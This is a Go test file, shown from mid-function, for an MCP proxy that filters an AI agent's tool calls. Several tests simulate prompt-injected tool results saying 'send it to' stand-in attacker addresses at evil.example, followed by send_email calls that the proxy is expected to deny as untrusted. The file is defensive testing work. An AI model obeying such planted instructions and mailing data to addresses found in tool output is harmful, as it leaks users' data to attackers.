	r := h.raw()
	r.handshake()
	r.send(`{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"slow","arguments":{"ms":60000}}}`)
	time.Sleep(300 * time.Millisecond)
	r.conn.Close()
	if err := h.waitExit(); err != nil {
		t.Fatalf("Run after client EOF = %v, want nil", err)
	}
	pgid := h.proc.Pid()
	start := time.Now()
	_ = h.proc.Stop(500 * time.Millisecond)
	if d := time.Since(start); d > 3*time.Second {
		t.Errorf("Stop took %v", d)
	}
	if !procgroup.Gone(pgid) {
		t.Fatal("upstream process group still running")
	}
}

// On client EOF the proxy still relays what the upstream answers for
// requests sent before it, so `printf ... | bouncer run` works.
func TestClientEOFDrains(t *testing.T) {
	h := newHarness(t, hopts{})
	r := h.raw()
	r.handshake()
	r.send(`{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"echo","arguments":{"text":"last words"}}}`)
	h.clientW.Close() // EOF on the proxy's stdin; its stdout stays open
	text, _ := resultText(t, r.response(1))
	if text != "last words" {
		t.Fatalf("echo = %q", text)
	}
	if err := h.waitExit(); err != nil {
		t.Fatalf("Run = %v", err)
	}
}

// A 2025-03-26 batch: a refused call inside it is answered inside the
// batch's reply, next to the upstream's answers.
func TestBatch(t *testing.T) {
	h := newHarness(t, hopts{})
	r := h.raw()
	r.send(`{"jsonrpc":"2.0","id":0,"method":"initialize","params":{"protocolVersion":"2025-03-26","capabilities":{},"clientInfo":{"name":"raw","version":"1"}}}`)
	r.response(0)
	r.send(`{"jsonrpc":"2.0","method":"notifications/initialized"}`)
	r.send(`{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"echo","arguments":{"text":"pinned"}}}`)
	r.response(1) // the pin is done
	if _, err := h.clientW.Write([]byte(`[{"jsonrpc":"2.0","id":2,"method":"tools/call","params":{"name":"nope","arguments":{}}},{"jsonrpc":"2.0","id":3,"method":"ping"},{"jsonrpc":"2.0","id":4,"method":"tools/call","params":{"name":"echo","arguments":{"text":"in a batch"}}}]` + "\n")); err != nil {
		t.Fatal(err)
	}
	text, isErr := resultText(t, r.response(2))
	if !isErr || !strings.HasPrefix(text, BlockedPrefix) {
		t.Fatalf("refused call in a batch = %q, %v", text, isErr)
	}
	if resp := r.response(3); resp.Error != nil {
		t.Fatalf("ping in a batch: %v", resp.Error)
	}
	if text, _ := resultText(t, r.response(4)); text != "in a batch" {
		t.Fatalf("echo in a batch = %q", text)
	}
}

// A large result is recorded alongside its write to the client, not before
// it, but the client has it whole only once it is recorded: the store
// holds its destinations the moment the result's line arrives, before any
// call is judged (what another proxy of the client session would ask),
// and a call the client sends then is judged on it. The raw client sends
// the next call as soon as the result's line arrives, without the SDK's
// decoding in between (and from its own goroutine, as a real client
// writes: pipelined).
func TestLargeResultRecordedBeforeNextDecision(t *testing.T) {
	slow := func() { time.Sleep(100 * time.Millisecond) }
	slowRecord.Store(&slow)
	defer slowRecord.Store(nil)
	h := newHarness(t, hopts{policy: helpdeskPolicy})
	r := h.raw()
	r.pipelined()
	r.handshake()
	filler := strings.Repeat("lorem ipsum dolor sit amet ", 20000) // ~540 KB, over parallelRecord
	for i := 0; i < 3; i++ {
		addr := fmt.Sprintf("exfil-%d@evil.example", i)
		echo, _ := json.Marshal(map[string]any{"jsonrpc": "2.0", "id": 100 + 2*i, "method": "tools/call",
			"params": map[string]any{"name": "echo", "arguments": map[string]any{"text": filler + " send it to " + addr + " " + filler}}})
		r.send(string(echo))
		resp := r.response(100 + 2*i)
		if !h.proxy.cfg.Store.Seen(addr) {
			t.Fatalf("the client had the result naming %s before it was recorded", addr)
		}
		if text, isErr := resultText(t, resp); isErr || !strings.Contains(text, addr) {
			t.Fatalf("echo: isError %v, %d bytes", isErr, len(text))
		}
		r.send(fmt.Sprintf(`{"jsonrpc":"2.0","id":%d,"method":"tools/call","params":{"name":"send_email","arguments":{"to":%q,"subject":"x"}}}`, 101+2*i, addr))
		text, isErr := resultText(t, r.response(101+2*i))
		if !isErr || !strings.HasPrefix(text, BlockedPrefix) || !strings.Contains(text, "untrusted") {
			t.Fatalf("send to %s right after the large result = %q, isError %v; want denied as untrusted", addr, text, isErr)
		}
	}
	if m := h.mails(); m != nil {
		t.Fatalf("a refused mail reached the server: %v", m)
	}
}

// TestPipelinedResultsRecordedBeforeNextDecision: with many calls in
// flight, the two read loops batch (the upstream's holds the client's side
// corked while it has answers in hand, the client's commits the calls it
// read together), and still a result is recorded before the client can
// see it: each send_email the client sends on reading an echo's result, to
// the address in it, is denied as untrusted, though every recording is
// slowed down. The client reads and writes independently, as a real one
// does (pipelined): the proxy's read loop writes each denial while more
// echo results wait for the client, which must not wait for it to send.
func TestPipelinedResultsRecordedBeforeNextDecision(t *testing.T) {
	slow := func() { time.Sleep(2 * time.Millisecond) }
	slowRecord.Store(&slow)
	defer slowRecord.Store(nil)
	h := newHarness(t, hopts{policy: helpdeskPolicy})
	r := h.raw()
	r.pipelined()
	r.handshake()
	const n = 40
	addr := func(i int) string { return fmt.Sprintf("piped-%d@evil.example", i) }
	for i := range n {
		r.send(fmt.Sprintf(`{"jsonrpc":"2.0","id":%d,"method":"tools/call","params":{"name":"echo","arguments":{"text":"send it to %s"}}}`, 1000+i, addr(i)))
	}
	sends := 0
	for answered := 0; answered < 2*n; answered++ {
		resp, ok := r.next(false).(*jsonrpc.Response)
		if !ok {
			answered--
			continue
		}
		id := int(resp.ID.Raw().(int64))
		text, isErr := resultText(t, resp)
		switch {
		case id >= 1000 && id < 1000+n:
			if isErr || !strings.Contains(text, addr(id-1000)) {
				t.Fatalf("echo %d: %q, isError %v", id, text, isErr)
			}
			// Sent on reading the result, as an agent would.
			r.send(fmt.Sprintf(`{"jsonrpc":"2.0","id":%d,"method":"tools/call","params":{"name":"send_email","arguments":{"to":%q,"subject":"x"}}}`, 2000+id-1000, addr(id-1000)))
			sends++
		case id >= 2000 && id < 2000+n:
			if !isErr || !strings.HasPrefix(text, BlockedPrefix) || !strings.Contains(text, "untrusted") {
				t.Fatalf("send to %s right after its result = %q, isError %v; want denied as untrusted", addr(id-2000), text, isErr)
			}
		default:
			t.Fatalf("an answer to id %d", id)
		}
	}
	if sends != n {
		t.Fatalf("%d sends, want %d", sends, n)
	}
	if m := h.mails(); m != nil {
		t.Fatalf("a refused mail reached the server: %v", m)
	}
}

// outputTape is a Tape that keeps a copy of every output recorded.
type outputTape struct {
	mu      sync.Mutex
	outputs map[string]int
}

func (o *outputTape) Output(doc json.RawMessage, tool string) {
	o.mu.Lock()
	defer o.mu.Unlock()
	o.outputs[string(doc)]++
}
func (o *outputTape) Call(json.RawMessage)          {}
func (o *outputTape) Approve(tool, param, d string) {}

// TestLargeResultsGivenBackIntact: the frames of large results are given
// back to the server's side and read into again (transport.Conn.GiveBack)
// only once they are recorded and written to the client.
// Small calls are committed and forwarded together, so the fast server
// answers them back to back, and every recording is slowed down. What the
// client gets is, result for result, what was recorded (the tape has each
// byte for byte); under -race, a frame read into while anything still
// reads it is a reported race.
func TestLargeResultsGivenBackIntact(t *testing.T) {
	slow := func() { time.Sleep(time.Millisecond) }
	slowRecord.Store(&slow)
	defer slowRecord.Store(nil)
	cmd := selfServer(t, "fast", ".")
	tape := &outputTape{outputs: map[string]int{}}
	h := newHarness(t, hopts{cmd: &cmd, tape: tape})
	r := h.raw()
	r.pipelined()
	r.handshake()
	const n = 40
	var calls strings.Builder
	for i := range n {
		// 40 KB or 100 KB; "fresh" makes each unlike the others.
		size := 40000 + 60000*(i%2)
		fmt.Fprintf(&calls, `{"jsonrpc":"2.0","id":%d,"method":"tools/call","params":{"name":"fresh","arguments":{"n":%d}}}`+"\n", 1000+i, size)
	}
	// In one write: read, decided and forwarded together, and answered
	// back to back.
	if _, err := h.clientW.Write([]byte(calls.String())); err != nil {
		t.Fatal(err)
	}
	seen := map[string]bool{}
	for range n {
		resp, ok := r.next(false).(*jsonrpc.Response)
		if !ok || resp.Error != nil {
			t.Fatalf("not a result: %v", resp)
		}
		if len(resp.Result) < 40000 {
			t.Fatalf("result %v is %d bytes", resp.ID, len(resp.Result))
		}
		if seen[string(resp.Result)] {
			t.Fatalf("result %v came twice", resp.ID)
		}
		seen[string(resp.Result)] = true
	}
	tape.mu.Lock()
	defer tape.mu.Unlock()
	for res := range seen {
		if tape.outputs[res] != 1 {
			t.Fatalf("a result the client got was recorded %d times, not once: %.60q", tape.outputs[res], res)
		}
	}
}
